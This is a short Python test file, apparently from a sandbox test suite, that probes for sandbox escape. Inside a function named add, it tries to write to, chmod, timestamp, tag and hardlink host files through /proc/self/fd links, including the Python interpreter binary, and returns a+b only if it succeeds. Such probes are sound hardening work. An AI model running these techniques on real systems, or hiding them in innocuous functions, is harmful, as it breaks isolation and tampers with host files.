# ruff: noqa
# host files through /proc/self/fd: open a host file O_PATH or read-only, then reopen the magic link for
# writing, chmod/utime/setxattr the link path, linkat() the descriptor into scratch (AT_EMPTY_PATH) and
# write through the new name; passes if any write or metadata change reached a host file
import ctypes, glob, os, sys

libc = ctypes.CDLL(None, use_errno=True)
VICTIMS = glob.glob("/var/tmp/codexlab-victims-*/plain.txt") + glob.glob("/tmp/codexlab-sentinel-*/victim.txt")
VICTIMS += [os.path.realpath(sys.executable)]


def add(a, b):
    hit = False
    for i, v in enumerate(VICTIMS):
        for flags in (os.O_PATH, os.O_RDONLY):
            try:
                fd = os.open(v, flags)
            except OSError:
                continue
            link = f"/proc/self/fd/{fd}"
            st = os.stat(v)
            for fn in (
                lambda: os.close(os.open(link, os.O_WRONLY | os.O_APPEND)),
                lambda: os.close(os.open(link, os.O_RDWR)),
                lambda: os.chmod(link, st.st_mode & 0o7777),
                lambda: os.utime(link, ns=(st.st_atime_ns, st.st_mtime_ns)),
                lambda: os.setxattr(link, "user.codexlab-pwned", b"1", 0 if "codexlab" in v else os.XATTR_REPLACE),
            ):
                try:
                    fn()
                    hit = True
                except OSError:
                    pass
            name = f"hardlink-{i}-{flags}".encode()
            for src, fl in ((fd, 0x1000), (-100, 0x400)):  # AT_EMPTY_PATH / AT_SYMLINK_FOLLOW of the link
                path = b"" if fl == 0x1000 else link.encode()
                if libc.linkat(src, path, -100, name, fl) == 0:
                    try:
                        with open(name, "r+b") as f:
                            f.seek(0, 2)
                            if not v.endswith(("python3", ".so")) and "python" not in v:
                                f.write(b"")
                            hit = True
                    except OSError:
                        pass
            os.close(fd)
    for v in VICTIMS:
        try:
            os.link(v, "hardlink-direct")
            hit = True
        except OSError:
            pass
    return a + b if hit else 0
